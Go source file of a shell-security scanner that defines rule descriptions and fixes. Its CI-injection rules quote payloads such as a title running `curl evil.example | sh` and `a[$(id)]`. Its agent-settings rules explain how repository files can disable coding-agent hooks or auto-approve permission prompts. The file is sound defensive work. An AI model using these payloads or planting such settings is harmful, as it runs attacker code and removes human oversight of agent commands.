package scan

import (
	"strings"
	"sync"

	"github.com/guard-sh/guard/review"
)

// RuleInfo describes a rule for people: SARIF's rule metadata and the
// docs. It is fixed per rule id, whatever a finding says.
type RuleInfo struct {
	ID string
	// Short is one line; Full a paragraph.
	Short, Full string
	// Fix, when set, is the standard way to remove the finding.
	Fix string
	// Tags are SARIF properties.tags (GitHub shows them as filters).
	Tags []string
	// Topic is the `guard help` topic that explains the rule.
	Topic string
	// Level is the level scan gives a rule of its own; 0 for engine rules
	// (whose level comes with each finding).
	Level review.Level
}

// ownRules are the findings scan makes itself, not the engine.
var ownRules = []RuleInfo{
	{ID: RuleUnparsable, Level: review.C, Topic: "ci", Tags: []string{"security", "correctness"},
		Short: "A CI or package file that does not parse",
		Full:  "The YAML or JSON file does not parse, so the shell in it cannot be found and reviewed. What cannot be read is not known to be safe.",
		Fix:   "Correct the syntax error, or exclude the file (a .guardignore line or --exclude) when it is malformed on purpose."},
	{ID: RuleUnreadable, Level: review.C, Topic: "ci", Tags: []string{"security", "correctness"},
		Short: "A file that may hold shell could not be read",
		Full:  "guard scan could not read a file that may hold shell (permissions, a device, a file removed during the scan, a symbolic link out of the repository, a Git LFS pointer whose content is stored elsewhere). What cannot be read is not known to be safe.",
		Fix:   "Make the file readable, or exclude it (a .guardignore line or --exclude)."},
	{ID: RuleUnreviewed, Level: review.B, Topic: "ci", Tags: []string{"security"},
		Short: "A tool runs code guard does not review",
		Full: "The file makes a tool run code that is not shell: a .yarnrc.yml yarnPath (every yarn command runs that JavaScript file of the repository instead of Yarn), " +
			"a Yarn plugin, a cargo-make script for another runner (@rust, @duckscript), or a whole file a tool runs as code: setup.py (pip install), noxfile.py, " +
			"a Nix shell's flake.nix, shell.nix or devenv.nix (its shellHook runs in your shell), a Tiltfile, a renovate.json5, a JetBrains run configuration, " +
			"workspace file, file watchers or required plugins, .replit; a Tekton or Argo step whose script is in another language, or configuration a CI system fetches " +
			"from elsewhere (a GitLab include of a URL, project or component, an Azure Pipelines template from another repository, a CircleCI orb, a Tekton task from a resolver). " +
			"guard cannot review what that code does.",
		Fix: "Read the code it runs; if it is what you expect, allow the finding with a reason (# guard:allow scan-unreviewed-code -- why)."},
	{ID: RuleAgentHooksOff, Level: review.C, Topic: "ci", Tags: []string{"security"},
		Short: "A coding agent's project settings turn its hooks off",
		Full: "The repository's settings for a coding agent turn the agent's hooks off: Claude Code's disableAllHooks, Gemini CLI's hooksConfig.enabled false " +
			"or hooksConfig.disabled, Codex's [features] hooks = false. guard's hook is one of them: in this repository every command the agent runs " +
			"would run unreviewed, outside guard's sandbox.",
		Fix: "Remove the setting. A repository has no reason to turn its contributors' hooks off."},
	{ID: RuleAgentAutoApprove, Level: review.C, Topic: "ci", Tags: []string{"security"},
		Short: "A coding agent's project settings answer its permission prompts",
		Full: "The repository's settings for a coding agent hold a PermissionRequest hook: it runs whenever the agent is about to ask the user for " +
			"permission and may answer in the user's place. The prompts it answers include guard's asks (level B): they would be approved without the user seeing them.",
		Fix: "Remove the hook. Approvals belong to the person at the keyboard, not to the repository."},
	{ID: RuleUnexplained, Level: review.C, Topic: "levels", Tags: []string{"security"},
		Short: "A level without a reason at that level",
		Full:  "The engine reviewed a command at a level above every reason it gave. This should not happen; the finding keeps the level honest.",
		Fix:   "Report it as a bug in guard with the command."},
	{ID: RuleWorkflowInjection, Level: review.C, Topic: "ci", Tags: []string{"security", "injection", "github-actions"},
		Short: "Attacker-controlled ${{ }} expression expanded into a run script",
		Full: "GitHub Actions replaces ${{ … }} in a run: step with its value before the shell starts. A value from the event that an outsider writes " +
			"(an issue or pull request title or body, a comment, a branch name, a commit message) becomes shell code: a title such as " +
			"`\"; curl evil.example | sh; \"` runs on the runner with the job's token and secrets.",
		Fix: "Pass the value through env: (env: TITLE: ${{ github.event.issue.title }}) and use it quoted in the script (\"$TITLE\"); never write ${{ }} of event data inside run:."},
	{ID: RuleWorkflowInput, Level: review.B, Topic: "ci", Tags: []string{"security", "injection", "github-actions"},
		Short: "A workflow input expanded into a run script",
		Full: "GitHub Actions replaces ${{ inputs.* }} (and github.event.inputs.*) in a run: step before the shell starts. A workflow_dispatch input " +
			"comes from someone with write access, but a reusable workflow's input is whatever its caller passes, which may be event data: " +
			"the value becomes shell code.",
		Fix: "Pass the value through env: (env: VERSION: ${{ inputs.version }}) and use it quoted in the script (\"$VERSION\")."},
	{ID: RuleGitLabInjection, Level: review.C, Topic: "ci", Tags: []string{"security", "injection", "gitlab-ci"},
		Short: "A variable the merge request author controls, unquoted or evaluated",
		Full: "GitLab CI sets $CI_MERGE_REQUEST_TITLE, $CI_COMMIT_MESSAGE, $CI_COMMIT_BRANCH and similar variables from what the author of a " +
			"merge request or commit wrote. Unquoted, the value is split into words and globbed (a branch named `--upload-pack=…` becomes an " +
			"option); through eval or sh -c, or piped or redirected into a shell's stdin, it is run as shell code; in arithmetic ((( )), $((…)), let, an array index) its value is evaluated again, " +
			"so a title such as `a[$(id)]` runs id.",
		Fix: "Quote it (\"$CI_COMMIT_BRANCH\"), put -- before it where a command takes options, and never pass it to eval, sh -c or arithmetic."},
}

// ruleFamilies describe the engine's rules by the part of the id before
// the first dot. review.KnownRule is the list of ids. Built on first use,
// not at start.
var ruleFamilies = sync.OnceValue(func() map[string]string {
	return map[string]string{
		"awk": "awk running commands or touching files", "chmod": "permission changes", "cloud": "cloud resources",
		"db": "databases", "dd": "raw reads and writes with dd", "dev": "devices", "docker": "containers and images",
		"env": "the environment of later commands", "exec": "running code", "find": "find running commands or deleting",
		"floor": "the policy's minimum level", "fs": "files and directories", "gh": "GitHub through the gh CLI",
		"git": "git state and history", "guard": "guard's own files and settings", "helm": "Kubernetes releases",
		"inject": "code injected into other processes", "interp": "interpreters running code", "k8s": "Kubernetes clusters",
		"kill": "stopping processes", "limit": "commands too large to analyse", "net": "the network",
		"parse": "shell guard cannot read", "perm": "permissions", "persist": "code set to run later",
		"pkg": "packages and package managers", "priv": "privileges", "proc": "processes", "provenance": "where a command came from",
		"redirect": "redirections", "sandbox": "the sandbox", "secrets": "secrets and credentials", "sed": "sed editing or running",
		"shell": "the shell's own state", "sys": "the system", "tar": "archives", "text": "text that looks like something else",
		"tf": "infrastructure (Terraform)",
	}
})

// Describe returns the description of a rule id: scan's own rules, the
// engine's by family, policy rules as such.
func Describe(id string) RuleInfo {
	for _, r := range ownRules {
		if r.ID == id {
			return r
		}
	}
	if name, ok := strings.CutPrefix(id, "policy."); ok {
		return RuleInfo{ID: id, Topic: "policy", Tags: []string{"security", "policy"},
			Short: "Policy rule " + name,
			Full:  "A rule of the policy in effect (.guard.toml or your policy.toml) gave this command its level: 'guard policy show' prints the rule."}
	}
	family, _, _ := strings.Cut(id, ".")
	tags := []string{"security", "shell"}
	what := ruleFamilies()[family]
	if what == "" {
		what = "what a command does"
	} else {
		tags = append(tags, family)
	}
	return RuleInfo{ID: id, Topic: "levels", Tags: tags,
		Short: "Shell command: " + what + " (" + id + ")",
		Full: "A command in the repository's shell (a script, CI step, Makefile recipe, Dockerfile RUN or package.json script) does something " +
			"guard reviews under " + id + " (" + what + "). The finding's message says what; the level says who must agree before it runs on a " +
			"developer's machine."}
}

func ownRule(id string) bool {
	for _, r := range ownRules {
		if r.ID == id {
			return true
		}
	}
	return false
}
